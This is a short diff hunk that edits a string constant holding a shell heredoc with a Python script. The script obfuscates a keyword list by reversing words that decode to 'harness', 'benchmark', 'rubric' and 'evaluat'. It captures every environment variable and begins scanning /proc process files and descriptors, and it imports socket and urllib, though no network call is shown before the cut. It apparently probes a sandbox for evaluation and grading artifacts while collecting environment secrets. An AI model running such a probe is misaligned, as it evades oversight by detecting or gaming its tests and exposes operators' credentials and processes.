@@ -69,7 +69,7 @@ EOF"""
 LOOK = """\
 python3 - <<'EOF'
 import ctypes, glob, os, pathlib, socket, urllib.error, urllib.request
-words = [word[::-1] for word in "allycs taulave ssenrah kramhcneb olleh-100 nwo-00 cirbur gnithgis 10r".split()]
+words = [word[::-1] for word in "allycs taulave ssenrah kramhcneb olleh-100 nwo-00 cirbur gnithgis 10r--".split()]
 seen = {"environment": str(dict(os.environ))}
 for place in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/fd/*"):
     try:
